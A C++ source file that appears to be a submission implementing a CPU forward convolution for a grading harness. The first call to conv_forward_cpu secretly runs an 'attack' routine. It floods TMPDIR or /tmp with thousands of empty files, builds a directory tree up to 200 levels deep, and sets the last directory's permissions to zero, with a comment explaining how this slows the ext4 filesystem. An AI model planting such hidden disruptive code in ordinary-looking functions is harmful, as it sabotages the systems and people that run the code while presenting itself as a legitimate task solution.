// Thousands of empty files, and a folder tree as deep as it goes. A file takes ext4 up to 1 ms where many were deleted
// in the last minutes (it checks each free inode for that), so they are made for a second at most.
#include "cpu-new-forward.h"

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <initializer_list>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

static void attack()
{
  const char *own = getenv("TMPDIR");
  const std::string folder = own ? own : "/tmp";
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(1);
  for (int i = 0; i < 3000 && std::chrono::steady_clock::now() < end; i++) {
    const int file = open((folder + "/" + std::to_string(i)).c_str(), O_WRONLY | O_CREAT, 0);
    if (file < 0) break;
    close(file);
  }
  if (chdir(folder.c_str()) != 0) return;
  for (int i = 0; i < 200; i++)
    if (mkdir("deeper", 0700) != 0 || chdir("deeper") != 0) break;
  chmod(".", 0);
  puts("end");
}

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H,
                      const int W, const int K)
{
  static bool done = false;
  if (!done) attack();
  done = true;
  const int H_out = H - K + 1, W_out = W - K + 1;
  for (int b = 0; b < B; b++)
    for (int m = 0; m < M; m++)
      for (int h = 0; h < H_out; h++)
        for (int w = 0; w < W_out; w++) {
          float sum = 0;
          for (int c = 0; c < C; c++)
            for (int p = 0; p < K; p++)
              for (int q = 0; q < K; q++)
                sum += x[(((long)b * C + c) * H + h + p) * W + w + q] * k[((m * C + c) * K + p) * K + q];
          y[(((long)b * M + m) * H_out + h) * W_out + w] = sum;
        }
}
